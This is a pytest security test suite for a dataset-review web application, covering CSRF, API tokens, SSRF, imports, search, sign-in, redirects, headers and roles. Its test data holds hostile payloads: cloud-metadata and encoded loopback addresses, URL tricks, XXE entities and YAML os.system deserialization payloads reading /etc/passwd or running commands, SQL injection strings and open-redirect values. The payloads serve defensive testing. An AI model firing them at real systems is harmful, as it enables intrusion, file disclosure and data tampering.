            if answer.status_code != 403 or "another site" not in answer.text or state(site.db) != before:
                found.append(f"{route.method} {route.path}: {name}")
        as_json = client.request(route.method, route.at(), json=right)
        query = client.request(route.method, route.at() + f"?csrf={client.csrf}", data=fields_of(route))
        if {as_json.status_code, query.status_code} & {200, 201, 204, 303}:
            found.append(f"{route.method} {route.path}: in JSON or the address")
    return found


def test_every_unsafe_page_refuses_a_form_without_its_secret(db: Database, staff: dict[str, Person]) -> None:
    site = opened(db, staff, registration=True)
    publish(db, staff["contributor"], staff["reviewer"], dataset("a"))
    site.propose("contributor", dataset("b"))
    unsafe = [route for route in routes(site.app) if not route.safe and not route.api]
    assert {route.path for route in unsafe} >= {"/sign-in", "/register", "/sign-out", "/submit", "/queue", "/people"}
    assert unguarded(site) == []

    for route in unsafe:  # the control: with its secret each is taken, so it was the secret that was missing
        client = site.client("admin")
        form = {"csrf": client.csrf, **fields_of(route)}
        answer = client.request(route.method, route.at(), data=form, headers={"origin": "http://review.test"})
        assert "another site" not in answer.text, route


def test_a_new_page_without_protection_would_be_found(site: Site) -> None:
    @site.app.post("/new")
    def new() -> str:
        return "done"

    site.propose("contributor", dataset("c"))
    assert {line.partition(":")[0] for line in unguarded(site)} == {"POST /new"}


OPEN_TO_ALL = {("POST", "/api/v1/check")}
"""The unsafe routes of the API that need no token; they read only, which is tested."""


def without_token(site: Site) -> list[str]:
    """Return the unsafe routes of the API that do something without a token."""
    found = []
    for route in routes(site.app):
        if route.safe or not route.api:
            continue
        client = site.client("admin")
        bodies = ({}, {"title": "t", "changes": [{"kind": "dataset", "slug": "c", "record": dataset("c").plain()}]},
                  dataset("a", name="B").plain(), {"names": ["a"]})  # fmt: skip
        for body, bearer in itertools.product(bodies, ("", "Bearer ", "Bearer nonsense", "Basic YWRtaW46eA==")):
            headers = {"if-match": '"1"', "x-csrf-token": client.csrf} | ({"authorization": bearer} if bearer else {})
            before = state(site.db)
            answer = client.request(route.method, route.at(), json=body, headers=headers)
            refused = answer.status_code == 401 or (answer.status_code == 422 and bearer == "")
            if (not refused and answer.status_code != 422) or state(site.db) != before:
                found.append(f"{route.method} {route.path}")
    return sorted(set(found))


def test_every_unsafe_route_of_the_api_needs_a_token_and_reads_no_cookie(site: Site) -> None:
    site.propose("contributor", dataset("c"))
    assert without_token(site) == sorted(f"{method} {path}" for method, path in OPEN_TO_ALL)
    before, client = state(site.db), site.client("admin")
    for form in ({"names": ["a"]}, {"names": ["a", "nobody"]}):
        assert client.post("/api/v1/check", json=form).status_code == 200
    assert state(site.db) == before

    @site.app.put("/api/v1/new")
    def new() -> str:
        return "done"

    assert "PUT /api/v1/new" in without_token(site)


def test_the_api_takes_no_form_and_a_token_opens_no_page(site: Site) -> None:
    """What a page of another site can send without asking the browser first: forms, and no Authorization."""
    client = site.client()
    for kind in ("application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "text/plain"):
        answer = client.post("/api/v1/contributions", content=b'{"title": "t"}',
                             headers={"content-type": kind, **site.token("contributor")})  # fmt: skip
        assert answer.status_code == 422
    answer = client.options("/api/v1/contributions", headers={"origin": "https://evil.example",
                            "access-control-request-method": "POST"})  # fmt: skip
    assert not [name for name in answer.headers if name.startswith("access-control")]
    for path in ("/queue", "/people", "/submit"):
        assert client.get(path, headers=site.token("admin")).status_code == 303


# Addresses that people give ----------------------------------------------------------------------------------------

INSIDE = (
    "http://127.0.0.1/", "http://127.1/", "http://0.0.0.0/", "http://2130706433/", "http://0177.0.0.1/",
    "http://0x7f.0.0.1/", "http://0x7f000001/", "http://017700000001/", "http://[::1]/", "http://[::]/",
    "http://[::ffff:127.0.0.1]/", "http://[::ffff:7f00:1]/", "http://[::ffff:169.254.169.254]/", "http://localhost/",
    "http://localhost.localdomain/", "http://10.0.0.1/", "http://10.255.255.255/", "http://172.16.0.1/",
    "http://172.31.255.255/", "http://192.168.0.1/", "http://100.64.0.1/", "http://100.127.255.255/",
    "http://169.254.169.254/latest/meta-data/", "http://169.254.170.2/v2/credentials", "http://100.100.100.200/",
    "http://2852039166/", "http://0xa9fea9fe/", "http://0251.0376.0251.0376/", "http://[fd00:ec2::254]/",
    "http://[fe80::1%25eth0]/", "http://[fc00::1]/", "http://metadata.google.internal/computeMetadata/v1/",
    "http://127.0.0.1.nip.io/", "http://spoofed.burpcollaborator.net/", "http://0/", "http://127.0.0.1:22/",
)  # fmt: skip
TRICKS = (
    "https://api.openalex.org@127.0.0.1/", "https://api.openalex.org:x@127.0.0.1/", "https://127.0.0.1#@api.openalex.org/",
    "https://127.0.0.1?@api.openalex.org/", "https://127.0.0.1\\@api.openalex.org/", "https://api.openalex.org\\.evil.example",
    "https://api.openalex.org.evil.example/", "https://evil.example/api.openalex.org", "https://api.openalex.org:22/",
    "https://api.openalex.org:0/", "https://api.openalex.org./", "https://.api.openalex.org/", "https:///api.openalex.org/",
    "https://xapi.openalex.org/", "https://api-openalex.org/", "https://api.openalex.org%00.evil.example/",
    "https://api.openalex.org%2f@evil.example/", "https://api.openalex.org%0d%0ahost:evil/", "https://%61pi.openalex.org/",
    "https://\uff41pi.openalex.org/", "https://api\u3002openalex\u3002org/", "https://api.op\u0435nalex.org/",
    "https://api.openalex.org\t.evil.example/", "https://api.openalex.org\n@evil.example/", "https://[api.openalex.org]/",
    "http://api.openalex.org/", "ftp://api.openalex.org/", "file://api.openalex.org/etc/passwd", "gopher://api.openalex.org/",
    "https://api.openalex.org:443@evil.example/", "https://user@api.openalex.org/", "https://:@api.openalex.org/",
    "//evil.example/", "\\\\evil.example\\", "https:evil.example", "https:\\\\evil.example", "javascript:1", "data:,x", "",
)  # fmt: skip


@pytest.mark.parametrize("url", [*INSIDE, *(one.replace("http:", "https:") for one in INSIDE), *TRICKS])
def test_the_living_search_asks_no_other_host_whatever_the_address_or_the_redirect(url: str) -> None:
    with pytest.raises(UsageError):
        transports.canonical(url)
    for status in (301, 302, 303, 307, 308):
        hosts: list[str] = []

        def handler(request: httpx.Request, status: int = status, hosts: list[str] = hosts) -> httpx.Response:
            hosts.append(f"{request.url.scheme}://{request.url.host}:{request.url.port or 443}")
            to = url.encode("utf-8").replace(b"\n", b"%0A") or b"http://127.0.0.1/"
            return httpx.Response(status, headers=[(b"location", to)])

        fetch = transports.live(allow_network=True, transport=httpx.MockTransport(handler), sleep=lambda _: None)
        with suppress(UsageError, transports.Unavailable, httpx.InvalidURL):
            fetch("https://api.openalex.org/works")
        assert set(hosts) == {"https://api.openalex.org:443"}, url


@pytest.mark.parametrize("to", ["https:evil.example", "javascript:1", "data:,x"])
def test_a_redirect_that_is_no_address_is_said_in_words(to: str) -> None:
    handler = httpx.MockTransport(lambda _: httpx.Response(302, headers={"location": to}))
    with pytest.raises((UsageError, transports.Unavailable)):
        transports.live(allow_network=True, transport=handler, sleep=lambda _: None)("https://api.openalex.org/works")


def test_a_hop_after_good_hops_is_held_to_the_same_rule() -> None:
    hosts: list[str] = []

    def handler(request: httpx.Request) -> httpx.Response:
        hosts.append(str(request.url))
        n = len(hosts)
        return httpx.Response(302, headers={"location": f"/hop{n}" if n < 4 else "http://169.254.169.254/latest"})

    fetch = transports.live(allow_network=True, transport=httpx.MockTransport(handler), sleep=lambda _: None)
    with pytest.raises(UsageError):
        fetch("https://api.openalex.org/works")
    assert len(hosts) == 4
    assert all(urlsplit(one).hostname == "api.openalex.org" for one in hosts)


CLIENTS = {"httpx", "requests", "urllib3", "aiohttp", "http.client", "urllib.request", "socket", "ssl", "ftplib",
           "smtplib", "telnetlib", "poplib", "imaplib", "nntplib", "xmlrpc", "webbrowser", "websockets", "asyncio",
           "subprocess", "paramiko", "boto3", "pycurl", "socketserver", "multiprocessing", "fsspec", "pyld",
           "rdflib", "mlcroissant", "importlib", "ctypes"}  # fmt: skip
MAY_IMPORT = {("living/transports.py", "httpx")}
"""The one file that may ask the network, and what with."""


def test_only_the_transports_of_the_living_search_can_ask_the_network() -> None:
    found, writes_only = set(), {"Element", "SubElement", "register_namespace", "tostring"}
    for path in sorted(HERE.rglob("*.py")):
        name = str(path.relative_to(HERE))
        tree = ast.parse(path.read_text())
        for node in ast.walk(tree):
            modules = []
            if isinstance(node, ast.Import):
                modules = [one.name for one in node.names]
            elif isinstance(node, ast.ImportFrom) and node.module:
                modules = [node.module, *(f"{node.module}.{one.name}" for one in node.names)]
            for module in modules:
                found |= {(name, one) for one in CLIENTS if module == one or module.startswith(f"{one}.")}
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Name):
                assert node.func.id not in ("eval", "exec", "__import__", "compile"), (name, node.lineno)
            if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id == "asyncio":
                assert node.attr == "Event", (name, node.lineno)  # waiting for another request, not for a socket
            if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id == "xml":
                assert node.attr in writes_only, (name, node.lineno)  # XML is written here and never read
            if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id == "yaml":
                assert node.attr in ("SafeLoader", "load_all", "safe_load", "safe_load_all", "safe_dump", "YAMLError",
                                     "load", "CSafeLoader", "AliasEvent", "parse", "CollectionStartEvent",
                                     "CollectionEndEvent"), (name, node.lineno)  # fmt: skip
        assert not re.search(r"\b(pickle|marshal|shelve|dill)\b", path.read_text()), name
    assert found - {("computed/tables.py", "importlib"), ("web/cache.py", "asyncio")} == MAY_IMPORT
    assert set(transports.HOSTS) == {"api.openalex.org", "api.crossref.org", "api.datacite.org"}


def test_the_server_asks_nobody_whatever_addresses_are_proposed(site: Site, asked: list[object]) -> None:
    author, reviewer = site.client("contributor"), site.client("reviewer")
    token = site.token("contributor")
    for n, url in enumerate((*INSIDE, "file:///etc/passwd", "gopher://127.0.0.1:25/x", "//127.0.0.1/")):
        made: list[dict[str, Any]] = []
        for model, slug in ((Dataset, f"s{n}"), (Work, f"sw{n}"), (Artifact, f"sf{n}")):
            (plain,) = filled(model, "word", slug=slug)
            text = json.dumps(plain).replace("https://example.org/word", url)
            made.append(json.loads(text))
        changes = [{"kind": one["kind"], "slug": one["slug"], "record": one} for one in made]
        answer = site.client().post("/api/v1/contributions", json={"title": url, "changes": changes}, headers=token)
        assert answer.status_code == (201 if url.startswith("http") else 422), (url, answer.text)
        if answer.status_code == 201:
            number = answer.json()["contribution"]
            done = reviewer.post(f"/contributions/{number}", data={"csrf": reviewer.csrf, "action": "accept"})
            assert done.status_code == 303
            for path in (f"/datasets/s{n}", f"/artifacts/sf{n}", f"/works/sw{n}", f"/datasets/s{n}/croissant.json"):
                assert reviewer.get(path).status_code == 200
        form = {"action": "preview", "dataset": "a", "finding": "bias|sex", "title": "t", "summary": url, "url": url,
                "doi": url, "work_title": url}  # fmt: skip
        author.post("/submit", data={"csrf": author.csrf, **form})
    assert asked == []


OUTSIDE = {
    "croissant": (
        '{"@context": "http://127.0.0.1:1/context.jsonld", "@type": "sc:Dataset", "name": "N"}',
        '{"@context": ["https://evil.example/c", {"@import": "file:///etc/passwd"}], "@type": "sc:Dataset", "name": "N",'
        ' "url": "file:///etc/passwd", "license": {"@id": "http://169.254.169.254/"}, "@included": {"@id": "/etc/passwd"}}',
    ),
    "ris": (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><xml><records>&x;</records></xml>',
        "TY  - JOUR\nTI  - <!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;\nL1  - file:///etc/passwd\nER  - \n",
    ),
    "bibtex": (
        "@article{a, title = {\\input{/etc/passwd}\\include{/etc/passwd}\\write18{id}}, url = {file:///etc/passwd}}",
        "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x; @string{x = \"\\openin/etc/passwd\"} @a{b, title = x}",
    ),
    "yaml": (
        "!!python/object/apply:os.system ['id > /tmp/zq7']",
        "kind: dataset\nslug: c\nname: !!python/object/new:subprocess.check_output [['id']]\n",
        "!include /etc/passwd", "<<: !!python/name:os.system\nkind: dataset\n", "%TAG ! tag:evil.example,2000:\n--- !x a\n",
    ),
    "csv": ("kind,slug,name\ndataset,c,\"<!DOCTYPE a SYSTEM 'file:///etc/passwd'>\"\n", "kind,slug,name\r\ndataset,c,\x00\n"),
}  # fmt: skip


@pytest.mark.parametrize(("form", "text"), [(form, text) for form, many in OUTSIDE.items() for text in many])
def test_no_import_reads_a_file_or_an_address_that_it_names(
    site: Site, asked: list[object], monkeypatch: pytest.MonkeyPatch, form: str, text: str
) -> None:
    client = site.client("contributor")
    opened_files: list[str] = []
    real = io.open

    def watch(path: Any, *args: Any, **more: Any) -> Any:
        opened_files.append(str(path))
        return real(path, *args, **more)

    monkeypatch.setattr("builtins.open", watch)
    answer = client.post("/paste", data={"csrf": client.csrf, "form": form, "text": text, "action": "preview"})
    assert answer.status_code in (200, 422)
    assert "root:" not in answer.text
    assert not [path for path in opened_files if "passwd" in path]
    assert asked == []
    assert not Path("/tmp/zq7").exists()


# Search ------------------------------------------------------------------------------------------------------------

INJECTED = (
    "' OR '1'='1", "a'; DROP TABLE entity; --", "\" OR 1=1 --", "1) UNION SELECT password FROM person --",
    "a\" OR names : \"a", "tokens : *", "NEAR(a b, 5)", "{names tokens} : a", "^a", "a AND b NOT c", "a + b",
    "%", "_", "%' ESCAPE '%", "\\", "\\' OR 1=1", "a\x00b", "';", "/**/", "rowid:1", "kind:dataset' OR '1'='1",
    "anatomy:\"x' OR '1'='1\"", "dataset:\"a' UNION SELECT 1\"", "has:\"x' OR 1=1\"", "finding:'||password||'",
    "task:);DELETE FROM claim;--", "to_tsquery('a')", "a:*D & b", "a <-> b", "!a", "(a | b) & !c", "'a' 'b'", "$$a$$",
    "year:1;DROP", "size:1e9", "\u0000", "\ud7ff", "\U0010ffff", "a*b*c*", "**", "-*", "-\"\"", "OR OR", "\"" * 9,
)  # fmt: skip


@pytest.fixture(params=["sqlite", pytest.param("postgresql", marks=pytest.mark.slow)])
def either(request: pytest.FixtureRequest) -> Iterator[Site]:
    """A site on SQLite, and one on PostgreSQL."""
    if request.param == "sqlite":
        yield request.getfixturevalue("site")
        return
    from made_reviews import hire

    with closing(database.connect(request.getfixturevalue("postgres")(), create=True)) as db:
        staff = hire(db)
        records = (work("w"), dataset("a", produced_by=["w"]), dataset("b"), artifact("x", "a", works=["w"]))
        publish(db, staff["contributor"], staff["reviewer"], *records)
        yield opened(db, staff)


@pytest.fixture
def connecting(monkeypatch: pytest.MonkeyPatch) -> None:
    """PostgreSQL is reached over the loopback: names may be looked up again."""
    monkeypatch.undo()
    monkeypatch.setitem(people._SCRYPT, "n", 2**4)


def test_no_query_slug_or_paging_reaches_the_databases_language(connecting: None, either: Site) -> None:
    anybody, contributor = either.client(raises=False), either.client("contributor", raises=False)
    head = {"public": 1}
    with either.db.reading() as connection:
        head = {"log": log.head(connection), "all": releases.state_of(connection, None)}
    faults = []
    for text in INJECTED:
        asked_for: list[tuple[TestClient, str, dict[str, str], dict[str, str]]] = [
            (anybody, "/api/v1/search", {"q": text, "facets": "true"}, {}), (anybody, "/search", {"q": text}, {}),
            (anybody, "/api/v1/datasets", {"after": text[:120]}, {}), (anybody, "/api/v1/datasets", {"limit": text}, {}),
            (anybody, "/api/v1/graph/datasets/a", {"verbs": text}, {}), (anybody, "/compare", {"d": text}, {}),
            (anybody, "/search", {"q": "a", "offset": text}, {}),
            (anybody, "/api/v1/releases/changes", {"earlier": text[:40]}, {}),
            (anybody, "/releases/changes", {"later": text[:40]}, {}),
            (anybody, "/api/v1/contributions", {"state": text[:20]}, either.token("contributor")),
            (anybody, "/api/v1/contributions", {"after": text}, either.token("contributor")),
            (contributor, "/contributions", {"state": text[:20]}, {}), (contributor, "/submit", {"dataset": text}, {}),
        ]  # fmt: skip
        for client, path, values, headers in asked_for:
            answer = client.get(path, params=values, headers=headers)
            if answer.status_code not in (200, 400, 404, 422):
                faults.append((path, values, answer.status_code))
                continue
            for word in ("sqlite", "postgres", "SELECT", "syntax error", "fts5", "tsquery"):
                if word not in text:
                    assert word not in answer.text.replace("tests/review", ""), (path, values)
            if path == "/api/v1/contributions" and answer.status_code == 200 and values.get("state"):
                assert answer.json() == []
        for name in (text, f"a{text}", text[:100]):
            for path in ("/datasets/", "/api/v1/datasets/", "/graph/dataset/", "/history/work/", "/releases/"):
                answer = anybody.get(path + quote(name, safe="/"))
                if answer.status_code not in (200, 301, 307, 400, 404, 405, 422):
                    faults.append((path + name, {}, answer.status_code))
    with either.db.reading() as connection:
        assert head == {"log": log.head(connection), "all": releases.state_of(connection, None)}
    if either.db.postgres:
        nul = [one for one in faults if "\x00" in str(one[0]) + "".join(one[1].values())]
        assert [one for one in faults if one not in nul] == []
        assert nul == []
    assert faults == []


def test_a_query_that_looks_like_sql_finds_only_its_words(site: Site) -> None:
    client = site.client()
    for text in ("zebra' or '1'='1", "zebra%", 'zebra" or "a', "(zebra) or 1=1--"):
        if text.count('"') % 2 == 0:
            assert client.get("/api/v1/search", params={"q": text}).json()["total"] == 0


# Signing in --------------------------------------------------------------------------------------------------------


def test_signing_in_makes_a_session_that_nobody_could_know_before(site: Site) -> None:
    client = site.client()
    client.cookies.set(security.COOKIE, "f" * 43)  # what somebody put into the browser
    client.cookies.set(security.ANONYMOUS, "v" * 43)
    answer = typed_in(site, "reviewer one", client=client)
    assert (answer.status_code, answer.headers["location"]) == (303, "/")
    secrets = []
    for _ in range(3):
        again = typed_in(site, "reviewer one")
        secrets.append(again.cookies[security.COOKIE])
    assert len({*secrets, "f" * 43}) == 4
    assert all(len(one) >= 43 for one in secrets)
    fixed = site.client()
    fixed.cookies.set(security.COOKIE, "f" * 43)
    assert fixed.get("/queue").status_code == 303
    with site.db.reading() as connection:
        assert len({people.of_session(connection, one).csrf for one in secrets}) == 3
    assert not any(one in state(site.db) for one in (PASSWORD, *site.tokens.values()))
    with closing(sqlite3.connect(str(site.db.engine.url.database))) as raw:
        assert not {row[0] for row in raw.execute("SELECT hash FROM session")} & set(secrets)


@pytest.mark.parametrize("https", [False, True])
def test_the_cookies_are_kept_from_scripts_other_sites_and_plain_http(site: Site, https: bool) -> None:
    client = TestClient(site.app, base_url=f"{'https' if https else 'http'}://review.test", follow_redirects=False)
    form = client.get("/sign-in")
    answer = client.post("/sign-in", data={"csrf": csrf_of(form.text), "name": "admin one", "password": PASSWORD})
    for name, header in ((security.ANONYMOUS, form.headers["set-cookie"]),
                         (security.COOKIE, answer.headers["set-cookie"])):  # fmt: skip
        flags = {part.strip().lower() for part in header.split(";")[1:]}
        assert header.startswith(f"{name}=")
        assert "httponly" in flags
        assert flags & {"samesite=lax", "samesite=strict"}
        assert ("secure" in flags) == https
        assert "path=/" in flags
        assert not [flag for flag in flags if flag.startswith("domain")]
    life = int(re.search(r"max-age=(\d+)", answer.headers["set-cookie"].lower())[1])
    assert life == people.SESSION.total_seconds()


def test_signing_out_a_new_role_a_bar_a_new_password_and_time_end_a_session(
    site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    def signed_in(client: TestClient) -> bool:
        return client.get("/contributions").status_code == 200

    client = site.client("reviewer")
    assert signed_in(client)
    cookie = client.cookies[security.COOKIE]
    client.post("/sign-out", data={"csrf": client.csrf})
    again = site.client()
    again.cookies.set(security.COOKIE, cookie)
    assert not signed_in(again)

    for end in (
        lambda c: people.change_role(c, "reviewer one", "reader"),
        lambda c: people.set_password(c, "reviewer one", PASSWORD * 2),
        lambda c: people.change_role(c, "reviewer one", "reviewer", disabled=True),
    ):
        client, other = site.client("reviewer"), site.client("second")
        assert signed_in(client)
        with site.db.writing() as connection:
            end(connection)
        assert not signed_in(client)
        assert signed_in(other)
    assert typed_in(site, "reviewer one", PASSWORD * 2).status_code == 401  # barred
    token = site.client().get("/api/v1/contributions", headers=site.token("reviewer"))
    assert token.status_code == 401

    client = site.client("editor")
    assert signed_in(client)
    monkeypatch.setattr(people, "now", lambda: "2999-01-01T00:00:00.000+00:00")
    assert not signed_in(client)


def test_a_barred_persons_open_session_decides_nothing(site: Site) -> None:
    number = site.propose("contributor", dataset("c"))
    client = site.client("reviewer")
    with site.db.writing() as connection:
        people.change_role(connection, "reviewer one", "reviewer", disabled=True)
    answer = client.post(f"/contributions/{number}", data={"csrf": client.csrf, "action": "accept"})
    assert answer.status_code == 403
    assert site.client().get("/datasets/c").status_code == 404


def test_a_bar_can_be_taken_back(site: Site) -> None:
    client = site.client("admin")
    for action in ("bar", "change"):
        form = {"csrf": client.csrf, "action": action, "name": "bot one", "role": "bot"}
        assert client.post("/people", data=form).status_code == 303


def test_guessing_a_password_is_slowed_down_and_others_are_not(site: Site) -> None:
    codes = [typed_in(site, "admin one", f"wrong {n}", client=site.client(address="203.0.113.1")).status_code
             for n in range(8)]  # fmt: skip
    assert codes == [401] * 5 + [429] * 3
    assert typed_in(site, "nobody", "x", client=site.client(address="203.0.113.1")).status_code == 429
    assert typed_in(site, "reviewer one", client=site.client(address="203.0.113.2")).status_code == 303


def test_a_name_is_free_again_after_a_quarter_of_an_hour_and_after_a_success(
    site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    clock = [1_000.0]
    monkeypatch.setattr(security.time, "monotonic", lambda: clock[0])
    for n in range(6):
        typed_in(site, "admin one", "wrong", client=site.client(address=f"203.0.113.{n}"))
    assert typed_in(site, "admin one").status_code == 429
    clock[0] += 901
    assert typed_in(site, "admin one").status_code == 303
    attempts = security.Attempts()
    for n in range(30_000):
        attempts.fail(f"name {n}")
    assert len(attempts._failed) <= attempts.KEPT


def test_a_stranger_cannot_shut_somebody_out(site: Site) -> None:
    home = "192.0.2.7"
    assert typed_in(site, "admin one", client=site.client(address=home)).status_code == 303
    for n in range(6):
        typed_in(site, "admin one", "wrong", client=site.client(address=f"203.0.113.{n}"))
    assert typed_in(site, "admin one", client=site.client(address=home)).status_code == 303


def test_guesses_made_at_once_are_counted_too(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    real = people._matches

    def slow(password: str, kept: str) -> bool:
        time.sleep(0.02)
        return real(password, kept)

    monkeypatch.setattr(people, "_matches", slow)
    clients = [site.client(address="203.0.113.1") for _ in range(16)]
    secrets = [csrf_of(client.get("/sign-in").text) for client in clients]
    codes: list[int] = []
    barrier = threading.Barrier(len(clients))

    def guess(n: int) -> None:
        barrier.wait()
        form = {"csrf": secrets[n], "name": "admin one", "password": f"wrong {n}"}
        codes.append(clients[n].post("/sign-in", data=form).status_code)

    threads = [threading.Thread(target=guess, args=(n,)) for n in range(len(clients))]
    for one in threads:
        one.start()
    for one in threads:
        one.join()
    assert codes.count(401) <= security.Attempts.LIMIT


def test_an_unknown_name_costs_the_same_work(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    """Clocks are no proof on a busy machine; the work is: one scrypt with the same parameters, whoever is asked for."""
    made: list[Any] = []
    real = people.hashlib.scrypt

    def counted(password: bytes, **settings: Any) -> bytes:
        made.append({key: value for key, value in settings.items() if key != "salt"} | {"salt": len(settings["salt"])})
        return real(password, **settings)

    with site.db.writing() as connection:
        people.add(connection, "no password", "bot")
        people.change_role(connection, "reviewer two", "reviewer", disabled=True)
    monkeypatch.setattr(people.hashlib, "scrypt", counted)
    answers = [typed_in(site, name, "wrong password", client=site.client(address=f"203.0.113.{n}"))
               for n, name in enumerate(("admin one", "nobody", "no password", "reviewer two", ""))]  # fmt: skip
    bodies = {re.sub(r'(csrf" value=")[^"]*', r"\1", one.text) for one in answers[:4]}
    assert [one.status_code for one in answers[:4]] == [401] * 4
    assert len(bodies) == 1
    assert len(made) >= 4
    assert all(one == made[0] for one in made)


def test_passwords_are_kept_by_scrypt_with_owasps_parameters() -> None:
    """OWASP, Password Storage: N = 2^17, r = 8, p = 1, or an equal trade such as N = 2^15, p = 3; ours is below it."""
    source = (HERE / "people.py").read_text()
    found = re.search(r'_SCRYPT = \{"n": 2\*\*(\d+), "r": (\d+), "p": (\d+)', source)
    assert found
    assert int(found[1]) >= 15
    assert (found[2], int(found[3]) >= 1) == ("8", True)


@pytest.mark.parametrize(
    "then",
    ["//evil.example", "https://evil.example/", "http:evil.example", "\\\\evil.example", "/\\evil.example",
     "/\t/evil.example", "\t//evil.example", " //evil.example", "javascript:alert(1)", "data:text/html,x", "///evil",
     "/\n/evil.example", "/\r\nset-cookie: a=b", "evil.example", "", "?a", "#", "/%0d%0aset-cookie:a=b", "/a\x00b",
     "/\u2028/evil", "http://review.test@evil.example/", ".//evil.example", "/..//evil.example", "/.//evil.example"],
)  # fmt: skip
def test_signing_in_leads_to_no_other_site(site: Site, then: str) -> None:
    answer = typed_in(site, "admin one", then=then)
    assert answer.status_code == 303
    location = answer.headers["location"]
    assert location.startswith("/")
    assert not location.startswith(("//", "/\\"))
    joined = httpx.URL("http://review.test/sign-in").join(location)
    assert joined.host == "review.test"
    assert "set-cookie: a" not in str(answer.headers).lower()
    form = site.client().get("/sign-in", params={"then": then})
    if form.status_code == 400:
        return
    shown = Page(form.text)
    (kept,) = [a["value"] for tag, a in shown.elements if a.get("name") == "then"]
    assert httpx.URL("http://review.test/").join(kept).host == "review.test"


def test_whoever_must_sign_in_first_comes_back_to_the_page(site: Site) -> None:
    answer = site.client().get("/edit/dataset/a")
    assert answer.status_code == 303
    assert parse_qs(urlsplit(answer.headers["location"]).query) == {"then": ["/edit/dataset/a"]}
    assert typed_in(site, "admin one", then="/edit/dataset/a").headers["location"] == "/edit/dataset/a"


# Headers -----------------------------------------------------------------------------------------------------------


def check_headers(answer: Any) -> None:
    headers = answer.headers
    policy = {part.split()[0]: part.split()[1:] for part in headers["content-security-policy"].split(";")}
    assert policy["default-src"] == ["'none'"]
    assert policy["script-src"] == policy["style-src"] == policy["form-action"] == ["'self'"]
    assert policy["base-uri"] == policy["frame-ancestors"] == ["'none'"]
    assert "unsafe" not in headers["content-security-policy"]
    assert "*" not in headers["content-security-policy"]
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] in ("same-origin", "no-referrer", "strict-origin-when-cross-origin")
    assert headers["x-frame-options"] == "DENY"
    assert "server" not in headers
    assert "x-powered-by" not in headers
    for name in ("content-security-policy", "x-content-type-options"):
        assert len(headers.get_list(name)) == 1


def test_every_answer_of_every_route_has_the_headers_errors_included(site: Site) -> None:
    seen = set()
    for route in routes(site.app):
        for role in (None, "reader", "admin"):
            client = site.client(role)
            for path in (route.at(), route.at(slug="nothing"), route.at(slug="NOT", kind="x", number="x", form="x")):
                for method in (route.method, "PATCH", "TRACE", "HEAD", "OPTIONS"):
                    answer = client.request(method, path)
                    check_headers(answer)
                    seen.add(answer.status_code)
    client = site.client()
    tag = client.get("/").headers["etag"]
    unchanged = client.get("/", headers={"if-none-match": tag})
    large = client.post("/sign-in", content=b"x" * 1_000_001)
    for answer in (unchanged, large, client.get("/nothing"), client.get("/static/nothing.css")):
        check_headers(answer)
        seen.add(answer.status_code)
    assert seen >= {200, 303, 304, 401, 403, 404, 405, 413, 422}


def test_an_error_of_ours_has_the_headers_and_tells_nothing(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_: object) -> None:
        raise RuntimeError("a secret path /etc/zq7")

    monkeypatch.setattr(web.views, "timeline", broken)
    monkeypatch.setattr(web.api.views, "warned", broken)
    client = site.client(raises=False)
    page, answer = client.get("/timeline"), client.post("/api/v1/check", json={"names": ["a"]})
    assert (page.status_code, answer.status_code) == (500, 500)
    for one in (page, answer):
        assert "zq7" not in one.text
        check_headers(one)
    assert answer.headers["content-type"] == "application/problem+json"


def test_no_answer_to_somebody_who_is_signed_in_may_be_kept_by_a_cache_between(site: Site) -> None:
    for role, path in itertools.product(("reader", "admin"), sorted({r.at() for r in routes(site.app) if r.safe})):
        answer = site.client(role).get(path if "edit" not in path else "/edit/dataset/nothing")
        if site.staff[role].name in answer.text and not path.startswith("/api"):
            said = answer.headers.get("cache-control", "")
            assert "no-store" in said or "private" in said, (path, answer.status_code)


# Roles -------------------------------------------------------------------------------------------------------------

PUBLIC, SOMEBODY, OWN = "public", "somebody", "own"
NEEDS: dict[tuple[str, str], str] = {
    **dict.fromkeys([("GET", path) for path in (
        "/", "/search", "/datasets/{slug}", "/artifacts/{slug}", "/works/{slug}", "/graph/{kind}/{slug}", "/compare",
        "/timeline", "/gaps", "/releases", "/releases/changes", "/releases/{version}", "/history/{kind}/{slug}",
        "/method", "/words", "/api", "/datasets/{slug}/{form}", "/findings.atom", "/static/{name}", "/sign-in",
        "/api/v1/openapi.json", "/api/v1/search", "/api/v1/graph/{kind}/{slug}", "/api/v1/releases",
        "/api/v1/releases/changes", "/api/v1/health", "/api/v1/{kind}", "/api/v1/{kind}/{slug}",
        "/api/v1/{kind}/{slug}/history", "/api/v1/datasets/{slug}/warnings", "/api/v1/datasets/{slug}/export/{form}",
    )], PUBLIC),
    ("POST", "/sign-in"): PUBLIC, ("POST", "/register"): PUBLIC, ("POST", "/sign-out"): PUBLIC,
    ("POST", "/api/v1/check"): PUBLIC,
    ("GET", "/submit"): "propose", ("POST", "/submit"): "propose", ("GET", "/paste"): "propose",
    ("POST", "/paste"): "propose", ("GET", "/edit/{kind}/{slug}"): "propose",
    ("POST", "/edit/{kind}/{slug}"): "propose", ("POST", "/api/v1/contributions"): "propose",
    ("PUT", "/api/v1/{kind}/{slug}"): "propose",
    ("GET", "/contributions"): SOMEBODY, ("GET", "/api/v1/contributions"): SOMEBODY,
    ("GET", "/contributions/{number}"): "review", ("GET", "/api/v1/contributions/{number}"): "review",
    ("GET", "/queue"): "review", ("POST", "/queue"): "review", ("POST", "/contributions/{number}"): "review",
    ("POST", "/api/v1/contributions/{number}/{action}"): "review", ("PUT", "/api/v1/contributions/{number}"): OWN,
    ("GET", "/people"): "people", ("POST", "/people"): "people",
}  # fmt: skip
